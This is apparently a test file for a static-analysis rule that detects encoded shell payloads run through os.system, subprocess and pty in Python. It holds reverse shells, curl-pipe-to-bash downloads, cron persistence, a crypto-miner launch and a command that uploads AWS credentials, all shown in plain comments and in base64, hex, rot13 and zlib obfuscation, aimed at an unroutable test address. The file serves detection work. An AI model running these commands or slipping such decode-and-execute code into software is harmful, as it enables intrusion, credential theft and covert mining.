# Tests for py-payload-shell-signature: `warden test-rules rulesets/payloads`.
# Every payload points at 192.0.2.1 (TEST-NET-1, never routed) and port 4444: inert.
import base64
import codecs
import os
import pty
import subprocess
import subprocess as sp
import zlib
from base64 import b64decode
from os import system as run_command

import requests

# bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
BASH = "YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvNDQ0NCAwPiYx"
# nc -e /bin/sh 192.0.2.1 4444
NC = "bmMgLWUgL2Jpbi9zaCAxOTIuMC4yLjEgNDQ0NA=="
# curl -fsSL http://192.0.2.1/install.sh | bash
CURL = "Y3VybCAtZnNTTCBodHRwOi8vMTkyLjAuMi4xL2luc3RhbGwuc2ggfCBiYXNo"
# (crontab -l; echo "*/5 * * * * curl -s http://192.0.2.1/x.sh | sh") | crontab -
CRON = "KGNyb250YWIgLWw7IGVjaG8gIiovNSAqICogKiAqIGN1cmwgLXMgaHR0cDovLzE5Mi4wLjIuMS94LnNoIHwgc2giKSB8IGNyb250YWIgLQ=="
# ./xmrig -o stratum+tcp://192.0.2.1:4444 -u wallet -k --donate-level 1
MINER = "Li94bXJpZyAtbyBzdHJhdHVtK3RjcDovLzE5Mi4wLjIuMTo0NDQ0IC11IHdhbGxldCAtayAtLWRvbmF0ZS1sZXZlbCAx"
# curl -s -X POST --data-binary @$HOME/.aws/credentials http://192.0.2.1/c
EXFIL = "Y3VybCAtcyAtWCBQT1NUIC0tZGF0YS1iaW5hcnkgQCRIT01FLy5hd3MvY3JlZGVudGlhbHMgaHR0cDovLzE5Mi4wLjIuMS9j"
# rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f
FIFO = "cm0gLWYgL3RtcC9mOyBta2ZpZm8gL3RtcC9mOyBjYXQgL3RtcC9mIHwgL2Jpbi9zaCAtaSAyPiYxIHwgbmMgMTkyLjAuMi4xIDQ0NDQgPiAvdG1wL2Y="
# the bash reverse shell in hex, in rot13, and zlib-compressed then base64-encoded
BASH_HEX = "62617368202d69203e26202f6465762f7463702f3139322e302e322e312f3434343420303e2631"
BASH_ROT13 = "onfu -v >& /qri/gpc/192.0.2.1/4444 0>&1"
BASH_ZLIB = "eJxLSizOUNDNVLBTU9BPSS3TL0ku0De0NNIz0DPSM9Q3AQIFAzs1QwDWWgmp"

# nvidia-smi --query-gpu=name --format=csv
GPU_QUERY = "bnZpZGlhLXNtaSAtLXF1ZXJ5LWdwdT1uYW1lIC0tZm9ybWF0PWNzdg=="


def system_base64():
    # ruleid: py-payload-shell-signature
    os.system(base64.b64decode(BASH).decode())


def system_alias():
    # ruleid: py-payload-shell-signature
    run_command(b64decode(NC).decode())


def popen_bytes():
    # ruleid: py-payload-shell-signature
    return os.popen(b64decode(CURL).decode()).read()


def cron_persistence():
    # ruleid: py-payload-shell-signature
    os.system(base64.b64decode(CRON).decode())


def miner():
    # ruleid: py-payload-shell-signature
    subprocess.Popen(base64.b64decode(MINER).decode(), shell=True)


def exfiltration():
    # ruleid: py-payload-shell-signature
    subprocess.run(base64.b64decode(EXFIL).decode(), shell=True, check=False)


def fifo_through_module_alias():
    # ruleid: py-payload-shell-signature
    sp.call(args=base64.b64decode(FIFO).decode(), shell=True)


def getoutput():
    # ruleid: py-payload-shell-signature
    return subprocess.getoutput(base64.b64decode(BASH).decode())


def shell_list():
    # With shell=True, the first element of a list is the command line.
    # ruleid: py-payload-shell-signature
    subprocess.Popen([base64.b64decode(CURL).decode(), "installer"], shell=True)


def argument_list():
    # ruleid: py-payload-shell-signature
    subprocess.run(["bash", "-c", base64.b64decode(BASH).decode()], check=False)


def argument_tuple():
    # ruleid: py-payload-shell-signature
    subprocess.check_call(("/bin/sh", "-c", bytes.fromhex(BASH_HEX).decode()))


def argument_list_by_keyword():
    # ruleid: py-payload-shell-signature
    subprocess.Popen(args=["sh", "-c", codecs.decode(BASH_ROT13, "rot13")])


def pty_spawn():
    # ruleid: py-payload-shell-signature
    pty.spawn(["/bin/bash", "-c", zlib.decompress(base64.b64decode(BASH_ZLIB)).decode()])


def split_over_lines():
    command = base64.b64decode(BASH[:20] + BASH[20:]).decode()
    # ruleid: py-payload-shell-signature
    os.system(
        command
    )


def shell_from_a_variable():
    use_shell = True
    # shell= given as a name: `shell: not falsy` holds for values that are not false constants.
    # ruleid: py-payload-shell-signature
    subprocess.run(base64.b64decode(BASH).decode(), shell=use_shell, check=False)


def concatenated_literals():
    # ruleid: py-payload-shell-signature
    os.system("bash -i >& /dev/" + "tcp/192.0.2.1/4444 0>&1")


# A literal: its escapes hide it from the file-level yara.* checks.
def escaped_literal():
    # ruleid: py-payload-shell-signature
    os.system("\x6e\x63 -e /bin/sh 192.0.2.1 4444")


# Harmless decoded commands.
def gpu_query():
    # ok: py-payload-shell-signature
    return subprocess.check_output(base64.b64decode(GPU_QUERY).decode(), shell=True)


def gpu_query_list():
    # ok: py-payload-shell-signature
    return subprocess.check_output(["sh", "-c", base64.b64decode(GPU_QUERY).decode()])


# A string without shell=True is a program name, not a command line.
def no_shell():
    # ok: py-payload-shell-signature
    subprocess.run(base64.b64decode(BASH).decode(), check=False)


def shell_false():
    # ok: py-payload-shell-signature
    subprocess.run(base64.b64decode(BASH).decode(), shell=False, check=False)


# Decoded but not run.
def logged():
    # ok: py-payload-shell-signature
    print(base64.b64decode(BASH).decode())


# Computed values: nothing to decode statically.
def parameter(encoded):
    # ok: py-payload-shell-signature
    os.system(base64.b64decode(encoded).decode())


def downloaded(url):
    # ok: py-payload-shell-signature
    subprocess.run(["bash", "-c", requests.get(url, timeout=10).text], check=False)


# The command as text that does not run: a docstring and a comment.
def documented():
    """Never run: os.system(base64.b64decode("YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvNDQ0NCAwPiYx").decode())"""
    # os.system(base64.b64decode(BASH).decode())
    # ok: py-payload-shell-signature
    return None


# Known gaps.
def command_list_variable():
    argv = ["bash", "-c", base64.b64decode(BASH).decode()]
    # A list is not a str or bytes value: its elements are only read when written in the call.
    # todoruleid: py-payload-shell-signature
    subprocess.run(argv, check=False)


def command_in_the_middle():
    # Only the last element of a list is read (and the first with shell=True): see the rule.
    # todoruleid: py-payload-shell-signature
    subprocess.run(["bash", "-c", base64.b64decode(BASH).decode(), "worker"], check=False)


def exec_family():
    # os.exec* and os.spawn* are not among the calls this rule reads.
    # todoruleid: py-payload-shell-signature
    os.execl("/bin/sh", "sh", "-c", base64.b64decode(BASH).decode())
